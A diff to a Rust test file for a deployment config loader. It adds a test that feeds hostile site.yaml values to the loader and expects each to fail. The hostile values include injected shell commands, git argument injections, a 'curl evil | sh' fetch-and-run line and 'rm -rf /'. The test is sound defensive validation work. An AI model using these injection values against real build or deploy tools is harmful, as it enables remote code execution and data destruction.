@@ -39,7 +39,7 @@ fn load(text: &str) -> crate::spec::Result<crate::spec::Config> {
     crate::spec::load_sources(
         &[("site.yaml".into(), text.to_owned())],
         &registry(),
-        &|name| (name == "HOOK_SECRET").then(|| "s3cret-value".to_owned()),
+        &|name| (name == "HOOK_SECRET").then(|| "s3cret-value-for-tests".to_owned()),
     )
 }
 
@@ -145,7 +145,7 @@ fn secrets_should_never_reach_user_data() {
     let text = user_data.as_str().unwrap();
     assert!(!text.contains("s3cret-value"));
     assert!(
-        text.contains("--name /blog/api-key"),
+        text.contains("read_secret API_KEY /blog/api-key"),
         "fetched on the instance"
     );
     assert!(
@@ -215,4 +215,159 @@ fn shell_quoting_should_survive_any_text() {
     assert_eq!(shell_quote("it's"), r"'it'\''s'");
     assert_eq!(shell_quote(""), "''");
     assert_eq!(shell_quote("$HOME"), "'$HOME'");
+}
+
+/// Issue 11, item 5: every value that lands in a generated file is checked
+/// where it lands; each hostile value is a clear error at its file:line:col.
+#[test]
+fn hostile_site_values_should_each_be_a_clear_error_at_their_location() {
+    let cases: &[(&str, &str, &str)] = &[
+        ("node_version", "\"20$(id)\"", "not a Node.js version"),
+        ("node_version", "\"20; rm -rf /\"", "not a Node.js version"),
+        ("node_version", "\"20.1.2.3\"", "not a Node.js version"),
+        ("output_dir", "/etc", "not a directory inside the build"),
+        (
+            "output_dir",
+            "../../etc",
+            "not a directory inside the build",
+        ),
+        (
+            "output_dir",
+            "\"dist; }\"",
+            "not a directory inside the build",
+        ),
+        (
+            "output_dir",
+            "\"dist\\nserver {\"",
+            "not a directory inside the build",
+        ),
+        (
+            "repo_url",
+            "\"--upload-pack=touch /tmp/x\"",
+            "not a clone URL",
+        ),
+        ("repo_url", "\"-oProxyCommand=id\"", "not a clone URL"),
+        ("repo_url", "\"file:///etc\"", "not a clone URL"),
+        ("repo_url", "\"ext::sh -c id\"", "not a clone URL"),
+        (
+            "repo_url",
+            "\"https://user:tok@github.com/a/b.git\"",
+            "not a clone URL",
+        ),
+        (
+            "repo_url",
+            "\"https://github.com/a/b.git\\nJAAM_DEPLOY\"",
+            "line breaks",
+        ),
+        (
+            "install",
+            "\"npm ci\\nJAAM_DEPLOY\\ncurl evil | sh\"",
+            "line breaks",
+        ),
+        (
+            "build",
+            "JAAM_DEPLOY",
+            "delimiter of the generated user data",
+        ),
+        ("start", "\"npm start\\rreboot\"", "line breaks"),
+        (
+            "domain",
+            "\"blog.example.com; include /etc/shadow\"",
+            "not a domain name",
+        ),
+        ("domain", "\"blog.example.com\\n\"", "not a domain name"),
+        ("branch", "\"--upload-pack=id\"", "not a branch name"),
+        ("branch", "\"main..evil\"", "not a branch name"),
+        ("revision", "rollback", "not a commit id"),
+        ("revision", "main", "not a commit id"),
+        ("port", "22", "not a port"),
+        ("keep_releases", "0", "not between 1 and 100"),
+        ("repo", "\"acme/blog; id\"", "not a repository"),
+        ("repo", "\"-x/blog\"", "not a repository"),
+        (
+            "env",
+            "{TITLE: \"a\\nJAAM_ENV\\nrm -rf /\"}",
+            "`TITLE`: line breaks",
+        ),
+        (
+            "env",
+            "{TITLE: JAAM_ENV}",
+            "delimiter of the generated user data",
+        ),
+        ("secrets", "{KEY: \"/a b\"}", "not an SSM parameter name"),
+        ("secrets", "{KEY: \"/a$(id)\"}", "not an SSM parameter name"),
+        (
+            "repo_url",
+            "\"https://github.com/${env.HOOK_SECRET}/b.git\"",
+            "may not read `${env.…}`",
+        ),
+        (
+            "install",
+            "\"npm ci ${env.HOOK_SECRET}\"",
+            "may not read `${env.…}`",
+        ),
+        (
+            "domain",
+            "\"${env.HOOK_SECRET}.example.com\"",
+            "may not read `${env.…}`",
+        ),
+    ];
+    assert!(cases.len() >= 15);
+    for (argument, value, expected) in cases {
+        // The base site, with `argument` set to (or replaced by) `value`.
+        let mut text = String::from("site.blog:\n");
+        for (name, base) in [
+            ("repo", "acme/blog"),
+            ("domain", "blog.example.com"),
+            ("zone", "example.com"),
+        ] {
+            if name != *argument {
+                text.push_str(&format!("  {name}: {base}\n"));
+            }
+        }
+        text.push_str(&format!("  {argument}: {value}\n"));
+        let error = match load(&text) {
+            Ok(_) => panic!("`{argument}: {value}` was accepted"),
+            Err(error) => error.to_string(),
+        };
+        assert!(
+            error.contains(expected),
+            "`{argument}: {value}`: expected {expected:?} in:\n{error}"
+        );
+        let line = text
+            .lines()
+            .position(|l| l.trim_start().starts_with(&format!("{argument}:")))
+            .unwrap()
+            + 1;
+        assert!(
+            error.contains(&format!("site.yaml:{line}:")),
+            "`{argument}: {value}`: expected the location site.yaml:{line} in:\n{error}"
+        );
+        assert!(
+            error.contains("site.blog"),
+            "`{argument}: {value}`: expected the address in:\n{error}"
+        );
+        assert!(!error.contains("s3cret-value"), "{error}");
+    }
+}
+
+#[test]
+fn ordinary_site_values_should_still_be_accepted() {
+    load(
+        "site.blog:
+  repo: acme/my-blog.io
+  branch: release/2.x
+  repo_url: git@github.com:acme/my-blog.io.git
+  domain: blog.example.com
+  zone: example.com
+  node_version: \"20.11.1\"
+  output_dir: build/public
+  install: npm ci --omit=dev && echo \"it's fine\"
+  port: 8080
+  revision: 0123456789abcdef0123456789abcdef01234567
+  env: {TITLE: \"My blog: it's $HOME\"}
+  secrets: {API_KEY: /blog/api-key}
+",
+    )
+    .unwrap();
 }
